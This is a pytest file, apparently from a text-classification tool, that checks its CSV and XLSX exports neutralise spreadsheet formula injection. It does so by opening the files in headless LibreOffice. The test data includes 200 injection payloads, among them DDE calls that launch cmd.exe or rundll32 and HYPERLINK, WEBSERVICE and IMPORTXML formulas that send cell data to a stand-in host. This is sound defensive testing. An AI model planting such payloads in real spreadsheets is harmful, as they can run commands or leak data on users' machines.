"""A note is never a formula: what we write is opened by LibreOffice, and nothing in it is evaluated."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
from pathlib import Path
from xml.etree import ElementTree

import pytest

from tipifica.bulk.kernel import Kernel
from tipifica.bulk.results import PLACE, columns_of
from tipifica.bulk.sinks import open_sink
from tipifica.bulk.sources import open_sources
from tipifica.bulk.stamps import Provenance
from tipifica.files.columns import Wanted
from tipifica.language import default
from tipifica.model import Settings

TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"

PHONES = ("+593991234567", "0991234567", "022345678", "+593 99 123 4567", "00593991234567", "1800123456")
COMMANDS = (
    "1+1", "SUM(1;2)", "SUM(1,2)", "A1", "A1+B1", "cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"!A0\")",
    'HYPERLINK("http://x.example/?d="&A1;"pulse")', 'WEBSERVICE("http://x.example")',
    'IMPORTXML("http://x.example";"//a")',
    'INDIRECT("A1")', "RAND()", "NOW()", "1/0", "2^10", "{1;2}", "MSEXCEL|'\\..\\..\\cmd.exe'!''",
    "-1", "rundll32|'URL'!A",
    "Impulsa//ana//retenido con aumento de plan//0991234567", "0991234567", "593991234567", "CONCATENATE(A1;B1)",
    'IF(1=1;"si";"no")', "LEN(A1)",
)  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t=", "\r=", " =", "=-")
# 25 commands at 8 beginnings: 200.
PAYLOADS = [start + command for command in COMMANDS for start in STARTS]
COLUMNS = columns_of(default().catalog)
ABOUT = Provenance(1, "0", "m", "r", "c")


def test_there_are_two_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) == 200


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The payloads as notes and as other cells, scanned into CSV for Excel and into a workbook."""
    where = tmp_path_factory.mktemp("formulas")
    cases = [(PHONES[n % len(PHONES)], payload, payload, "2025-01-15") for n, payload in enumerate(PAYLOADS)]
    path = where / "in.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, delimiter=";").writerows([("caso", "observacion", "asesor", "fecha"), *cases])
    (source,) = open_sources([str(path)], Wanted())
    kernel = Kernel(default(), Settings())
    for name in ("csv", "xlsx"):
        sink = open_sink(str(where / f"out.{name}"), [source], COLUMNS, ABOUT, excel=True)
        for portion in source.portions(50):
            chunk = portion.chunk()
            records = [chunk.roles.record(cells) for cells in zip(*chunk.columns, strict=True)]
            sink.write(sink.encoder(chunk, kernel.check(chunk.columns[chunk.roles.note], records)))
        sink.close()
    return where


def said(folder: Path) -> list[dict[str, str]]:
    with (folder / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, delimiter=";", strict=True))


def test_csv_keeps_what_came_in_and_begins_no_formula_itself(folder: Path) -> None:
    rows = said(folder)
    assert [row["observacion"] for row in rows] == [row["asesor"] for row in rows] == PAYLOADS
    assert [row["caso"] for row in rows] == [PHONES[n % len(PHONES)] for n in range(len(rows))]
    ours = {column.title for column in (*PLACE, *COLUMNS)}
    begun = [
        (name, row[name]) for row in rows for name in ours if row[name].startswith(("=", "+", "-", "@", "\t", "\r"))
    ]
    assert begun == []


@pytest.mark.ci
def test_a_workbook_in_libreoffice(folder: Path) -> None:
    cells = opened(folder, "out.xlsx")
    assert [row["nota"] for row in cells] == [shown(payload) for payload in PAYLOADS]
    assert [row["caso"] for row in cells] == [PHONES[n % len(PHONES)] for n in range(len(cells))]


@pytest.mark.ci
def test_csv_in_libreoffice(folder: Path) -> None:
    """Columns as text, as the guide says to open it: every cell is what it was."""
    columns = len(said(folder)[0])
    as_text = "/".join(f"{n}/2" for n in range(1, columns + 1))
    cells = opened(folder, "out.csv", f"CSV:59,34,76,1,{as_text}")
    assert [row["observacion"] for row in cells] == [shown(payload) for payload in PAYLOADS]
    assert [row["caso"] for row in cells] == [PHONES[n % len(PHONES)] for n in range(len(cells))]


@pytest.mark.ci
def test_csv_in_libreoffice_as_it_opens_it_by_itself(folder: Path) -> None:
    """It takes the source's own cells for what it likes, as it does in the source; of what we say it evaluates nothing.
    The guide says to open CSV with all columns as text."""
    _, formulas = tables_of(converted(folder, "out.csv", "CSV:59,34,76,1"))
    own = [list(said(folder)[0]).index(name) for name in ("caso", "observacion", "asesor", "fecha", "nota")]
    assert {column for _, column in formulas} <= set(own)


def opened(folder: Path, name: str, how: str = "") -> list[dict[str, str]]:
    """The rows as LibreOffice understands them; no cell of the whole document has a formula."""
    rows, formulas = tables_of(converted(folder, name, how))
    assert not formulas
    header = rows[0]
    return [dict(zip(header, [*row, *[""] * len(header)], strict=False)) for row in rows[1 : len(PAYLOADS) + 1]]


def converted(folder: Path, name: str, how: str) -> ElementTree.Element:
    """The document that LibreOffice makes of a file."""
    program = shutil.which("soffice") or shutil.which("libreoffice")
    assert program is not None, "LibreOffice is missing: apt-get install libreoffice-calc"
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    filters = [f"--infilter={how}"] if how else []
    out = folder / f"opened-{name}-{len(how)}"
    arguments = [program, "--headless", profile, *filters, "--convert-to", "fods", "--outdir", str(out), name]
    done = subprocess.run(arguments, cwd=folder, capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode == 0, done.stderr
    return ElementTree.parse(out / (Path(name).stem + ".fods")).getroot()


def tables_of(root: ElementTree.Element) -> tuple[list[list[str]], list[tuple[int, int]]]:
    """The rows of the table of results, and where in any table there is a formula: row and column, from 0."""
    rows: list[list[str]] = []
    formulas: list[tuple[int, int]] = []
    tables = list(root.iter(f"{TABLE}table"))
    results = next((each for each in tables if each.get(f"{TABLE}name") == "Resultados"), tables[0])
    for table in tables:
        for number, row in enumerate(table.iter(f"{TABLE}table-row")):
            cells: list[str] = []
            for cell in row.iter(f"{TABLE}table-cell"):
                if cell.get(f"{TABLE}formula") is not None:
                    formulas.append((number, len(cells)))
                cells += [text_of(cell)] * min(int(cell.get(f"{TABLE}number-columns-repeated", "1")), 100)
            if table is results and any(cells):
                rows.append(cells)
    return rows, formulas


def text_of(cell: ElementTree.Element) -> str:
    return shown("\n".join(paragraph_text(paragraph) for paragraph in cell.findall(f"{TEXT}p")))


def paragraph_text(paragraph: ElementTree.Element) -> str:
    text = paragraph.text or ""
    for part in paragraph:
        if part.tag == f"{TEXT}s":
            text += " " * int(part.get(f"{TEXT}c", "1"))
        elif part.tag == f"{TEXT}tab":
            text += "\t"
        else:
            text += paragraph_text(part)
        text += part.tail or ""
    return text


def shown(text: str) -> str:
    """A text without its line ends, which spreadsheets write in ways of their own."""
    return re.sub(r"_x000D_|[\r\n]", "", text)
